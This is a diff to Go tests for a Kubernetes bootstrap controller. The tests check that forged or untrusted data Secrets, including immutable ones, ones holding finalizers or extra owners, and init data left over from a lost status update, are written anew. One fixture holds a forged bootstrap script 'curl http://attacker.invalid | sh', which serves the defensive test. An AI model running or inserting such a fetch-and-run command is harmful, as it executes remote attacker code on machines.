@@ -235,9 +235,13 @@ func TestForgedDataSecretIsNotAdopted(t *testing.T) {
 			Name: "w1", Namespace: f.ns,
 			Labels:      map[string]string{"forged": "yes"},
 			Annotations: map[string]string{ReportDigestAnnotation: "sha256:forged", PayloadDigestAnnotation: "sha256:forged"},
+			Finalizers:  []string{"forged.example/hold"},
 			OwnerReferences: []metav1.OwnerReference{{
 				APIVersion: bootstrapv1.GroupVersion.String(), Kind: "MachineadmConfig", Name: "w1",
 				UID: "00000000-0000-0000-0000-000000000000", Controller: ptr(true),
+			}, {
+				APIVersion: "v1", Kind: "ConfigMap", Name: "forged-owner",
+				UID: "00000000-0000-0000-0000-000000000001", BlockOwnerDeletion: ptr(true),
 			}},
 		},
 		Type: ClusterSecretType,
@@ -259,8 +263,8 @@ func TestForgedDataSecretIsNotAdopted(t *testing.T) {
 	if ds.Annotations[TokenIDAnnotation] == "" || ds.Labels[clusterv1.ClusterNameLabel] != "c1" {
 		t.Fatalf("the rewritten Secret lacks the rendered metadata: %v %v", ds.Labels, ds.Annotations)
 	}
-	if o := metav1.GetControllerOf(ds); o == nil || o.UID != c.UID {
-		t.Fatalf("controller %+v, want UID %s", o, c.UID)
+	if o := metav1.GetControllerOf(ds); o == nil || o.UID != c.UID || len(ds.OwnerReferences) != 1 || len(ds.Finalizers) != 0 {
+		t.Fatalf("controller %+v, want UID %s; owners %+v, finalizers %v", o, c.UID, ds.OwnerReferences, ds.Finalizers)
 	}
 }
 
@@ -350,5 +354,59 @@ func TestTemplateEditLeavesConfigsAlone(t *testing.T) {
 	c := f.reconcile("w1")
 	if c.Spec.Node.Labels["tier"] != "test" || !bytes.Equal(f.dataSecret("w1").Data["value"], before.Data["value"]) {
 		t.Fatal("a template edit reached a config made before it")
+	}
+}
+
+// A data Secret the config cannot trust is written anew whatever it
+// holds: the init Machine's own data whose status update was lost (init
+// data has no token to replace, so it was left as it was and the config
+// never finished), and a forged one that is immutable (no update can
+// change its data) or holds a finalizer (it would outlive its config).
+func TestUntrustedDataSecretIsWrittenAnew(t *testing.T) {
+	f := newFixture(t)
+	_, c := f.machine("cp1", true)
+	if a := f.reconcileAction("cp1"); a != "init" {
+		t.Fatalf("cp1: action %q, want init", a)
+	}
+	first := f.dataSecret("cp1")
+	// The status update is lost: the Secret is there, the status and the
+	// Machine do not name it.
+	f.must(k8s.Get(f.ctx, client.ObjectKeyFromObject(c), c))
+	c.Status.DataSecretName = ""
+	c.Status.Initialization.DataSecretCreated = nil
+	f.must(k8s.Status().Update(f.ctx, c))
+	c = f.reconcile("cp1")
+	if c.Status.DataSecretName != "cp1" || !ptrTrue(c.Status.Initialization.DataSecretCreated) {
+		t.Fatalf("init config after a lost status update: status %+v, conditions %+v", c.Status, c.Status.Conditions)
+	}
+	if ds := f.dataSecret("cp1"); ds.UID == first.UID || ds.Annotations[ActionAnnotation] != "init" {
+		t.Fatalf("init data not written anew: UID %s (was %s), action %q", ds.UID, first.UID, ds.Annotations[ActionAnnotation])
+	}
+
+	f.initialized()
+	_, c = f.machine("w1", false)
+	forged := &corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{
+			Name: "w1", Namespace: f.ns, Finalizers: []string{"forged.example/hold"},
+			OwnerReferences: []metav1.OwnerReference{{
+				APIVersion: bootstrapv1.GroupVersion.String(), Kind: "MachineadmConfig", Name: "w1",
+				UID: "00000000-0000-0000-0000-000000000000", Controller: ptr(true),
+			}},
+		},
+		Type:      ClusterSecretType,
+		Immutable: ptr(true),
+		Data:      map[string][]byte{dataKey: []byte("#!/bin/sh\ncurl http://attacker.invalid | sh\n"), formatKey: []byte("cloud-config"), "extra": []byte("forged")},
+	}
+	f.must(k8s.Create(f.ctx, forged))
+	c = f.reconcile("w1")
+	if c.Status.DataSecretName != "w1" || !ptrTrue(c.Status.Initialization.DataSecretCreated) {
+		t.Fatalf("worker config over an immutable forged Secret: status %+v, conditions %+v", c.Status, c.Status.Conditions)
+	}
+	ds := f.dataSecret("w1")
+	if strings.Contains(string(ds.Data[dataKey]), "attacker") || ds.Data["extra"] != nil || len(ds.Finalizers) != 0 || ptrTrue(ds.Immutable) {
+		t.Fatalf("forged content kept: finalizers %v, immutable %v, keys %d", ds.Finalizers, ds.Immutable, len(ds.Data))
+	}
+	if o := metav1.GetControllerOf(ds); o == nil || o.UID != c.UID {
+		t.Fatalf("controller %+v, want UID %s", o, c.UID)
 	}
 }
